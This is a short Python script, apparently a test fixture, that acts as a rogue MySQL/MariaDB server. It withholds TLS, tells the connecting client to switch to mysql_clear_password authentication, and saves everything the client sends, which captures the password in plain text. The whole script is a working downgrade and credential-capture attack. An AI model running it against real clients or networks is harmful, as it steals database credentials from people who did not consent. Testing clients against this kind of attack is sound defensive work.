#!/usr/bin/env python3
"""A server in the middle, as an attacker would set one up: it greets a MySQL client without offering TLS,
then asks it to switch to mysql_clear_password, and keeps every byte the client sends.
  clear-password-server.py HOST RECEIVED_FILE   prints the port it listens on, serves one client"""
import socket
import struct
import sys

host, received_file = sys.argv[1], sys.argv[2]
listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
listener.bind((host, 0))
listener.listen(1)
listener.settimeout(30)
print(listener.getsockname()[1], flush=True)


def packet(sequence, payload):
    return struct.pack('<I', len(payload))[:3] + bytes([sequence & 0xff]) + payload


# Protocol 4.1, secure connection, plugin authentication, multi statements: everything but TLS (0x800).
capabilities = 0x1 | 0x2 | 0x4 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x10000 | 0x20000 | 0x80000 | 0x200000
scramble = b'abcdefghijklmnopqrst'
greeting = (b'\x0a' + b'5.5.5-10.11.0-MariaDB\0' + struct.pack('<I', 7) + scramble[:8] + b'\0' +
            struct.pack('<H', capabilities & 0xffff) + b'\x21' + struct.pack('<H', 2) +
            struct.pack('<H', capabilities >> 16) + bytes([21]) + bytes(10) + scramble[8:] + b'\0' +
            b'mysql_native_password\0')

received = b''
try:
    client, _ = listener.accept()
    client.settimeout(5)
    client.sendall(packet(0, greeting))
    data = client.recv(65536)
    received += data
    if len(data) > 3:
        client.sendall(packet(data[3] + 1, b'\xfemysql_clear_password\0' + scramble + b'\0'))
        while data:
            data = client.recv(65536)
            received += data
except OSError:
    pass
with open(received_file, 'wb') as out:
    out.write(received)
